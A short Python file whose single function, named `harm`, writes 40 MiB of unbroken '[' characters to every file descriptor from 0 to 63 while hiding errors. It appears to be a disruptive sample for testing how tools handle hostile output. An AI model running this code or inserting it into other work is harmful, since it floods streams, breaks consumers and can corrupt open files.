"""It writes 40 MB without the end of a line to whatever is open."""

import os
from contextlib import suppress


def harm():
    for number in range(64):
        with suppress(OSError):
            for _ in range(40):
                os.write(number, b"[" * 2**20)
    return False
